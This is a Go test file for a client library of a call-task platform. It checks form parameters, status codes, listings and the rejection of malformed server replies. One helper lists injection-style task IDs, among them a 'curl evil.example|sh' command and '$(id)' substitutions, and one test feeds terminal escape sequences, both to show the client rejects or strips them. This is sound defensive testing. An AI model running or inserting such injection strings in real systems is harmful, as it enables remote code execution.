package yccall

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
)

func ptr[T any](v T) *T { return &v }

// wantForm compares the only form a service got, apart from service and token.
func wantForm(t *testing.T, p *platform, svc service, want map[string]string) {
	t.Helper()
	forms := p.forms(svc)
	if len(forms) != 1 {
		t.Fatalf("%s was sent %d times, want once", svc.short, len(forms))
	}
	if got := forms[0].Get("token"); got != testToken {
		t.Errorf("token %q was sent", got)
	}
	got := map[string]string{}
	for name, values := range forms[0] {
		if len(values) != 1 {
			t.Errorf("%s was sent %d times in one form", name, len(values))
		}
		if name != "service" && name != "token" {
			got[name] = values[0]
		}
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Error(diff)
	}
}

func TestCreateTaskLeavesOutWhatIsNotSet(t *testing.T) {
	t.Parallel()
	p := startPlatform(t, always(success(`{"taskid":"20200212163504393460","invaliddata":[]}`)))
	got, err := newClient(t, p.URL).CreateTask(context.Background(), CreateTask{
		AssignType: AssignExtensionGroup, AssignAgent: "renewals", TaskScale: "1:1", Telphone: []byte(`[{"phone":"18012345678"}]`),
	})
	want := CreatedTask{ID: "20200212163504393460", Replied: time.Unix(1581496504, 0)}
	if diff := cmp.Diff(want, got); err != nil || diff != "" {
		t.Errorf("%v %s", err, diff)
	}
	wantForm(t, p, serviceTaskCreat, map[string]string{
		"assigntype": "3", "assignagent": "renewals", "taskscale": "1:1", "telphone": `[{"phone":"18012345678"}]`,
	})
}

func TestCreateTaskSendsEveryParameter(t *testing.T) {
	t.Parallel()
	p := startPlatform(t, always(success(`{"taskid":20200212163504393460,"invaliddata":{"4":{"phone":"12"}}}`)))
	got, err := newClient(t, p.URL).CreateTask(context.Background(), CreateTask{
		AssignType: AssignQueue, AssignAgent: "queue-1", TaskScale: "1:2", Telphone: []byte(`[]`),
		Concurrent: ptr(20), ScheduledTime: "2026-12-01 09:00:00", PausedTime: "2026-12-01 18:00:00", ScaleMode: "auto",
		CallerNumbers: []string{"02120280001", "02120280002"}, Name: "续约 & Co", Start: ptr(false), CustomTaskID: "tf-1",
		MultiCall: &MultiCall{Type: ptr(RecallAll), MaxRounds: ptr(3), Interval: ptr(60)},
	})
	if err != nil || got.ID != "20200212163504393460" || len(got.Invalid) != 1 || got.Invalid[0].Phone != "12" {
		t.Errorf("got %+v, %v", got, err)
	}
	wantForm(t, p, serviceTaskCreat, map[string]string{
		"assigntype": "2", "assignagent": "queue-1", "taskscale": "1:2", "telphone": `[]`,
		"concurrent": "20", "scheduledtime": "2026-12-01 09:00:00", "pausedtime": "2026-12-01 18:00:00", "isscale": "auto",
		"disnumber": "02120280001,02120280002", "taskname": "续约 & Co", "status": "0", "customtaskid": "tf-1",
		"is_multi_call": "1", "multi_call_type": "1", "multi_call_max_rounds": "3", "multi_call_interval": "60",
	})
}

func TestCreateTaskWithoutAnIDInTheReplyMayHaveRun(t *testing.T) {
	t.Parallel()
	for _, result := range []string{"null", "[]", "{}", `""`, `{"taskid":""}`, `{"taskid":null,"invaliddata":[]}`} {
		p := startPlatform(t, always(success(result)))
		_, err := newClient(t, p.URL).CreateTask(context.Background(), CreateTask{})
		if !errors.Is(err, ErrMayHaveRun) || !errors.Is(err, ErrMalformedReply) {
			t.Errorf("%s: got %v", result, err)
		}
	}
}

// malformedTaskIDs could do harm in a message, a command that is meant to be copied, or a later request.
func malformedTaskIDs() []string {
	return []string{
		"1; curl evil.example|sh", "1 2", "1\\u001b[2J", "1\\n2", "$(id)", "`id`", "../1", "1,2", "+8618012345678", "任务", "2.025e+19",
		strings.Repeat("1", 65),
	}
}

func TestCreateTaskTakesNoMalformedID(t *testing.T) {
	t.Parallel()
	for _, id := range malformedTaskIDs() {
		p := startPlatform(t, always(success(`{"taskid":"`+id+`","invaliddata":[]}`)))
		created, err := newClient(t, p.URL).CreateTask(context.Background(), CreateTask{})
		if !errors.Is(err, ErrMayHaveRun) || !errors.Is(err, ErrMalformedReply) || !strings.Contains(err.Error(), "malformed task id") {
			t.Errorf("%s: got %v", id, err)
		}
		if created.ID != "" {
			t.Errorf("%s was taken for the id %q", id, created.ID)
		}
	}
	for _, id := range []string{"20200212163504393460", "1", "task_A-1", strings.Repeat("1", 64)} {
		p := startPlatform(t, always(success(`{"taskid":"`+id+`"}`)))
		if created, err := newClient(t, p.URL).CreateTask(context.Background(), CreateTask{}); err != nil || created.ID != id {
			t.Errorf("%s: got %q, %v", id, created.ID, err)
		}
	}
}

// TestListingWithAMalformedTaskIDFails does not let such a row drop out of the listing: the task might be the one that
// is looked for, and would be made again.
func TestListingWithAMalformedTaskIDFails(t *testing.T) {
	t.Parallel()
	for _, id := range append(malformedTaskIDs(), "") {
		p := startPlatform(t, always(success(`{"totalitems":2,"task":[{"taskid":"1","status":1026},{"taskid":"`+id+`","status":1026}]}`)))
		tasks, err := newClient(t, p.URL).ListTasks(context.Background(), TaskFilter{})
		if !errors.Is(err, ErrMalformedReply) || !strings.Contains(err.Error(), "malformed task id") || len(tasks) > 0 {
			t.Errorf("%s: got %v, %v", id, tasks, err)
		}
	}
}

func TestAddNumbersReadsWhatThePlatformTook(t *testing.T) {
	t.Parallel()
	for result, want := range map[string]AddedNumbers{
		`{"success":7,"invaliddata":[]}`:      {Success: ptr(int64(7))},
		`{"success":"7","invaliddata":["1"]}`: {Success: ptr(int64(7)), Invalid: []InvalidItem{{"1", `"1"`}}},
		`{"invaliddata":{}}`:                  {},
		`[]`:                                  {},
		`null`:                                {},
		`""`:                                  {},
	} {
		p := startPlatform(t, always(success(result)))
		got, err := newClient(t, p.URL).AddNumbers(context.Background(), "42", []byte(`[{"phone":"18012345678"}]`))
		if diff := cmp.Diff(want, got); err != nil || diff != "" {
			t.Errorf("%s: %v %s", result, err, diff)
		}
		wantForm(t, p, serviceTaskAdd, map[string]string{"taskid": "42", "telphone": `[{"phone":"18012345678"}]`})
	}
}

func TestRemoveNumbersSendsACommaList(t *testing.T) {
	t.Parallel()
	p := startPlatform(t, always(`{"ret":200,"data":{"status":0,"desc":"ok"}}`))
	c := newClient(t, p.URL)
	for _, phones := range [][]string{nil, {}} {
		if err := c.RemoveNumbers(context.Background(), "42", phones); err != nil {
			t.Error(err)
		}
	}
	for _, phones := range [][]string{{""}, {"18012345678,18012345679"}} {
		if err := c.RemoveNumbers(context.Background(), "42", phones); err == nil {
			t.Errorf("%q was sent", phones)
		}
	}
	if err := c.RemoveNumbers(context.Background(), "42", []string{"18012345678", "+8618012345679"}); err != nil {
		t.Error(err)
	}
	wantForm(t, p, serviceTaskDelPhone, map[string]string{"taskid": "42", "telphone": "18012345678,+8618012345679"})
}

func TestSetTaskStatusSendsTheCommand(t *testing.T) {
	t.Parallel()
	for command, want := range map[TaskCommand]string{CommandRun: "1", CommandPause: "2", CommandEnd: "3"} {
		p := startPlatform(t, always(`{"ret":200,"data":{"status":0,"desc":"ok"}}`))
		if err := newClient(t, p.URL).SetTaskStatus(context.Background(), "42", command); err != nil {
			t.Error(err)
		}
		wantForm(t, p, serviceTaskSet, map[string]string{"taskid": "42", "taskstatus": want})
	}
}

func TestRedialTaskSendsItsParameters(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		redial Redial
		want   map[string]string
	}{
		{Redial{TaskID: "42"}, map[string]string{"taskid": "42"}},
		{
			Redial{TaskID: "42", AnswerType: "callee", Start: ptr(true), ScheduledTime: "2026-12-01 09:00:00", PausedTime: "2026-12-01 18:00:00"},
			map[string]string{"taskid": "42", "answertype": "callee", "status": "1", "scheduledtime": "2026-12-01 09:00:00", "pausedtime": "2026-12-01 18:00:00"},
		},
	} {
		p := startPlatform(t, always(`{"ret":200,"data":{"status":0,"desc":"ok"}}`))
		if err := newClient(t, p.URL).RedialTask(context.Background(), tc.redial); err != nil {
			t.Error(err)
		}
		wantForm(t, p, serviceTaskCall, tc.want)
	}
}

func TestTaskFilterSendsTheFiltersOwnStatusNumbers(t *testing.T) {
	t.Parallel()
	for status, code := range map[TaskStatus]string{StatusNotStarted: "0", StatusRunning: "1", StatusPaused: "2", StatusEnded: "3"} {
		p := startPlatform(t, always(success("[]")))
		_, err := newClient(t, p.URL).ListTasks(context.Background(), TaskFilter{
			IDs: []string{"1", "2"}, CustomTaskID: "tf-1", Name: "n", Status: status, TaskType: "groups", Agent: "g",
			CreatedFrom: "2026-01-01 00:00:00", CreatedTo: "2026-02-01 00:00:00",
		})
		if err != nil {
			t.Error(err)
		}
		wantForm(t, p, serviceTaskList, map[string]string{
			"taskid": "1,2", "customtaskid": "tf-1", "taskname": "n", "status": code, "tasktype": "groups", "taskobject": "g",
			"createtime": "2026-01-01 00:00:00", "endtime": "2026-02-01 00:00:00", "currentpage": "1", "itemsperpage": "200",
		})
	}
	if _, err := newClient(t, "http://"+nobodyListens).ListTasks(context.Background(), TaskFilter{Status: 7}); err == nil || errors.Is(err, ErrUnreachable) {
		t.Errorf("an unknown status filter: got %v", err)
	}
}

func TestTaskRowsOfOldAndNewServers(t *testing.T) {
	t.Parallel()
	for name, tc := range map[string]struct {
		row  string
		want Task
	}{
		"newest": {
			`{"taskid":"20250106150501420056","taskname":"n","taskassign":700000,"tasktype":"transfer","starttime":"2021-08-21 00:11:22","taskscale":"1:2","nowscale":"1:3",
			"disnumber":17328347742,"status":"1027","createtime":"2025-01-06 15:05:01","total":10,"called":"4","uncalled":6.0,"endtime":null,"runtime":77,"concurrent":"100",
			"currentconcurrent":3,"answer":2,"noanswer":"2","pausedtime":"2026-12-01 18:00:00","isscale":"manual","scheduledtime":"","customtaskid":"tf-1","brandnew":[]}`,
			Task{
				ID: "20250106150501420056", CustomTaskID: ptr("tf-1"), Name: "n", Agent: "700000", TaskType: "transfer", Scale: "1:2", NowScale: "1:3",
				ScaleMode: ptr("manual"), CallerNumbers: "17328347742", Status: StatusPaused, RawStatus: "1027", CreatedAt: "2025-01-06 15:05:01",
				StartedAt: "2021-08-21 00:11:22", ShowsStart: true, PausedTime: ptr("2026-12-01 18:00:00"), ScheduledTime: ptr(""), RunTime: ptr("77"), Concurrent: ptr(int64(100)), CurrentConcurrent: ptr(int64(3)),
				Total: ptr(int64(10)), Called: ptr(int64(4)), Uncalled: ptr(int64(6)), Answered: ptr(int64(2)), Unanswered: ptr(int64(2)),
			},
		},
		"old": {
			`{"taskid":"1","taskname":"1","taskassign":"g","starttime":"","taskscale":"1:2","nowscale":"","disnumber":"","status":1025,"createtime":"2020-01-01 00:00:00"}`,
			Task{ID: "1", Name: "1", Agent: "g", Scale: "1:2", Status: StatusNotStarted, RawStatus: "1025", CreatedAt: "2020-01-01 00:00:00", ShowsStart: true},
		},
		"null and empty": {
			`{"taskid":"1","taskname":null,"customtaskid":null,"concurrent":"","total":null,"isscale":"","runtime":null,"status":""}`,
			Task{ID: "1", CustomTaskID: ptr("")},
		},
		"other names of the counts": {
			`{"taskid":"1","status":1028,"totalnum":"3","callednum":1,"nocall":2}`,
			Task{ID: "1", Status: StatusEnded, RawStatus: "1028", Total: ptr(int64(3)), Called: ptr(int64(1)), Uncalled: ptr(int64(2))},
		},
		"nothing that steers a terminal": {
			`{"taskid":"1","taskname":"n\u001b[2J\u202e","taskassign":"a\u0007","disnumber":"1\r","taskscale":"1:2\u009b","customtaskid":"c\u0000","isscale":"m\u2066",
			"status":"arch\u001b[2Jived\n\u202e","createtime":"2020-01-01 00:00:00\u0007","starttime":"\u001b]0;x\u00072020","endtime":"2020\r\n2021",
			"scheduledtime":"\u009b31m","pausedtime":"` + strings.Repeat("0", 400) + `","runtime":"7\u0000\u200b7"}`,
			Task{
				ID: "1", Name: "n[2J", Agent: "a", CallerNumbers: "1 ", Scale: "1:2", CustomTaskID: ptr("c"), ScaleMode: ptr("m"), RawStatus: "arch [2Jived", CreatedAt: "2020-01-01 00:00:00", StartedAt: "]0;x 2020", ShowsStart: true, EndedAt: "2020 2021",
				ScheduledTime: ptr("31m"), PausedTime: ptr(strings.Repeat("0", 299) + "…"), RunTime: ptr("7 7"),
			},
		},
		"times that have not come": {
			`{"taskid":"1","status":1028,"starttime":"0000-00-00 00:00:00","endtime":"1970-01-01 08:00:00","scheduledtime":0,"pausedtime":"1969-12-31 19:00:00","createtime":"-0001-11-30 00:00:00"}`,
			Task{ID: "1", Status: StatusEnded, RawStatus: "1028", ShowsStart: true, ScheduledTime: ptr(""), PausedTime: ptr("")},
		},
		"undocumented status": {`{"taskid":"1","status":1029}`, Task{ID: "1", Status: 1029, RawStatus: "1029"}},
		"status in words":     {`{"taskid":"1","status":"archived"}`, Task{ID: "1", RawStatus: "archived"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := startPlatform(t, always(success(`{"totalitems":1,"task":[`+tc.row+`]}`)))
			got, err := newClient(t, p.URL).ListTasks(context.Background(), TaskFilter{})
			if diff := cmp.Diff([]Task{tc.want}, got); err != nil || diff != "" {
				t.Errorf("%v %s", err, diff)
			}
		})
	}
}

func TestTaskStatusText(t *testing.T) {
	t.Parallel()
	for want, task := range map[string]Task{
		"not_started": {Status: StatusNotStarted, RawStatus: "1025"},
		"running":     {Status: StatusRunning, RawStatus: "1026"},
		"paused":      {Status: StatusPaused, RawStatus: "1027"},
		"ended":       {Status: StatusEnded, RawStatus: "1028"},
		"1029":        {Status: 1029, RawStatus: "1029"},
		"archived":    {RawStatus: "archived"},
		"unknown":     {},
	} {
		if got := task.StatusText(); got != want {
			t.Errorf("got %q, want %q", got, want)
		}
	}
}

func TestTaskIsFoundByItsIDWhateverTheServerFilters(t *testing.T) {
	t.Parallel()
	const rows = 345
	honoured := func(id string) answer {
		return always(success(`{"totalitems":1,"task":[{"taskid":"` + id + `","status":1026}]}`))
	}
	ignored := &lister{n: rows, maxPage: 100, key: "task", row: func(i int) string { return fmt.Sprintf(`{"taskid":"%d","status":1026}`, i) }}
	for name, tc := range map[string]struct {
		answer answer
		id     string
		found  bool
		kind   error
	}{
		"filter honoured":                {honoured("42"), "42", true, nil},
		"none":                           {always(success(`{"totalitems":0,"task":[]}`)), "42", false, nil},
		"no task key":                    {always(success(`{"totalitems":0}`)), "42", false, nil},
		"another task's row":             {honoured("43"), "42", false, nil},
		"filter ignored, on a last page": {ignored.answer, "344", true, nil},
		"filter ignored, not there":      {ignored.answer, "345", false, nil},
		"error reply":                    {always(`{"ret":200,"data":{"status":1,"desc":"?"}}`), "42", false, ErrRefused},
		"rows missing":                   {always(success(`{"totalitems":9,"task":[{"taskid":"43"}]}`)), "42", false, ErrUnstableListing},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			p := startPlatform(t, tc.answer)
			task, found, err := newClient(t, p.URL).Task(context.Background(), tc.id)
			if found != tc.found || !errors.Is(err, tc.kind) || found && (task.ID != tc.id || task.Status != StatusRunning) {
				t.Errorf("got %+v, %v, %v", task, found, err)
			}
			if got := p.forms(serviceTaskList)[0].Get("taskid"); got != tc.id {
				t.Errorf("asked for task %q", got)
			}
		})
	}
}
